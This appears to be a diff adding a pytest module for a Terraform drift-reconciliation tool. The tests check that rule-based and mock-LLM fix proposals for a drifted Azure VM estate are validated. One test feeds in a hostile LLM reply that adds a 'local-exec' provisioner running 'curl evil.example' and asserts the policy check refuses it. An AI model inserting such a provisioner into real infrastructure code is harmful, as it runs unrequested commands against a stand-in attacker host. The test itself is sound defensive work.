@@ -1,0 +1,162 @@
+"""`reconcile propose` on the drifted VM scenario: rules first, the LLM for the rest, all validated.
+
+One estate (the example applied, then changed out of band as in the demo) serves the module; the
+tests run in file order.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from openai_server import OpenAIServer
+
+from reconciler.cli import main
+from sandbox import scenario
+
+VM = "azurerm_linux_virtual_machine.web"
+SIZE_LINE = "  size                  = var.vm_size"
+
+
+class Estate:
+    def __init__(self, e: scenario.Estate, root: Path) -> None:
+        self.e = e
+        self.root = root
+        self.ws = e.workspace
+
+    def propose(self, *args: str) -> tuple[int, dict[str, Any]]:
+        out = self.root / "proposals.json"
+        code = main(["propose", str(self.ws), "--format", "json", "--output", str(out), *args])
+        return code, json.loads(out.read_text())
+
+
+@pytest.fixture(scope="module")
+def estate(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Estate]:
+    root = tmp_path_factory.mktemp("propose")
+    with scenario.estate(root) as e:
+        e.tf.init(e.workspace)
+        e.tf.apply(e.workspace)
+        e.tf.apply(e.workspace, extra_args=("-refresh-only",))
+        scenario.drift(e)
+        env = scenario.terraform_env(e.sandbox)
+        saved = {k: os.environ.get(k) for k in env}
+        os.environ.update(env)
+        try:
+            assert (
+                main(["drift", str(e.workspace), "--format", "json", "--output", str(root / "drift.json")])
+                == 2
+            )
+            yield Estate(e, root)
+        finally:
+            for k, v in saved.items():
+                if v is None:
+                    os.environ.pop(k, None)
+                else:
+                    os.environ[k] = v
+
+
+def _by_address(doc: dict[str, Any]) -> dict[str, dict[str, Any]]:
+    return {p["address"]: p for p in doc["proposals"]}
+
+
+def test_rules_codify_what_they_can_and_the_patch_applies(estate: Estate) -> None:
+    code, doc = estate.propose("--no-llm", "--patch", str(estate.root / "fix.patch"))
+    assert code == 2  # the count-shared VMs need a person or an LLM
+    proposals = _by_address(doc)
+    disk, nsg = proposals["azurerm_managed_disk.data"], proposals["azurerm_network_security_group.web"]
+    assert disk["valid"] and nsg["valid"] and disk["origin"] == "rules"
+    assert disk["files"] == ["variables.tf"]  # the value comes from a variable default: edited there
+    assert "-  default     = 32\n+  default     = 64\n" in disk["diff"]
+    assert '+    name                       = "allow-ssh"' in nsg["diff"]
+    assert [s["name"] for s in disk["attempts"][0]["steps"]] == [
+        "apply",
+        "parse",
+        "validate",
+        "plan",
+        "intent",
+        "policy",
+    ]
+    for address in (f"{VM}[0]", f"{VM}[1]", f"{VM}[2]"):
+        assert not proposals[address]["valid"]
+        assert "uses count" in proposals[address]["explanation"]
+
+    # The patch applies with git, touches only the drifted lines, and then plans those two resources as no-op.
+    copy = estate.root / "patched"
+    shutil.copytree(estate.ws, copy, ignore=shutil.ignore_patterns(".reconcile", ".terraform"))
+    subprocess.run(["git", "init", "-q"], cwd=copy, check=True)
+    subprocess.run(["git", "apply", str(estate.root / "fix.patch")], cwd=copy, check=True)
+    for name in ("outputs.tf", "versions.tf", "terraform.tfvars"):
+        assert (copy / name).read_bytes() == (estate.ws / name).read_bytes()
+    plan = estate.e.tf.show_plan_json(estate.e.tf.plan(copy, out=Path("p.tfplan")).planfile or copy, copy)
+    actions = {c["address"]: c["change"]["actions"] for c in plan["resource_changes"]}
+    assert actions["azurerm_managed_disk.data"] == ["no-op"]
+    assert actions["azurerm_network_security_group.web"] == ["no-op"]
+
+
+def test_revert_plans_exactly_the_reverting_changes(estate: Estate) -> None:
+    code, doc = estate.propose("--strategy", "revert")
+    assert code == 0
+    proposals = _by_address(doc)
+    assert set(proposals) == {f"{VM}[0]", f"{VM}[1]", f"{VM}[2]", "azurerm_managed_disk.data",
+                              "azurerm_network_security_group.web"}  # fmt: skip
+    for address, p in proposals.items():
+        assert p["valid"] and p["diff"] == ""
+        assert p["plan"][address] == ["update"]
+    size = next(a for a in proposals[f"{VM}[1]"]["advisories"] if a["kind"] == "cost")
+    assert "Standard_B2s → Standard_B1s" in size["message"]
+    shrink = next(a for a in proposals["azurerm_managed_disk.data"]["advisories"] if a["kind"] == "cost")
+    assert "Azure refuses" in shrink["message"]
+
+
+def test_the_llm_gets_what_rules_decline_and_only_validated_answers_pass(
+    estate: Estate, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    per_instance = '  size                  = count.index == 1 ? "Standard_B2s" : var.vm_size'
+    correct = {"file": "main.tf", "find": SIZE_LINE, "replace": per_instance}
+    provisioner = '\n\n  provisioner "local-exec" {\n    command = "curl evil.example"\n  }'
+    hostile = {"file": "main.tf", "find": SIZE_LINE, "replace": per_instance + provisioner}
+    wrong = {"file": "terraform.tfvars", "find": 'vm_size        = "Standard_B1s"',
+             "replace": 'vm_size        = "Standard_B2s"'}  # fmt: skip
+    decline = {
+        "strategy": "decline",
+        "edits": [],
+        "explanation": "per-instance tags need a map; a person should decide",
+    }
+    replies = [
+        decline,  # web[0]: tags
+        {"strategy": "codify", "edits": [hostile], "explanation": "size per instance"},  # web[1]
+        {"strategy": "codify", "edits": [wrong], "explanation": "size for all"},
+        {"strategy": "codify", "edits": [correct], "explanation": "size for instance 1 only"},
+        decline,  # web[2]: boot diagnostics
+    ]
+    with OpenAIServer(replies) as llm:
+        monkeypatch.setenv("RECONCILE_LLM_BASE_URL", llm.base_url)
+        monkeypatch.setenv("RECONCILE_LLM_MODEL", "scripted")
+        monkeypatch.setenv("RECONCILE_LLM_API_KEY", llm.api_key)
+        _, doc = estate.propose()
+        bodies = llm.bodies()
+    resized = _by_address(doc)[f"{VM}[1]"]
+    assert resized["valid"] and resized["origin"] == "llm"
+    hostile_try, wrong_try, right_try = resized["attempts"][1:]
+    [refused] = [s for s in hostile_try["steps"] if not s["ok"]]
+    assert refused["name"] == "policy" and "builtin.no_code_execution" in refused["detail"]
+    assert [s["name"] for s in wrong_try["steps"] if not s["ok"]] == ["intent"]
+    assert right_try["ok"]
+    assert "count.index == 1" in resized["diff"] and "local-exec" not in resized["diff"]
+    # What failed was fed back: the request for the third answer carries the intent failure.
+    assert "a proposal may change only its own resource" in bodies[3]
+    assert _by_address(doc)[f"{VM}[0]"]["valid"] is False
+    assert len(bodies) == 5
+
+
+def test_a_stale_scan_is_refused(estate: Estate, capsys: pytest.CaptureFixture[str]) -> None:
+    estate.e.tf.apply(estate.ws, extra_args=("-refresh-only",))  # the state's serial moves on
+    assert main(["propose", str(estate.ws), "--no-llm"]) == 1
+    err = capsys.readouterr().err.strip().splitlines()
+    assert len(err) == 1 and "is stale" in err[0] and "run 'reconcile drift' again" in err[0]
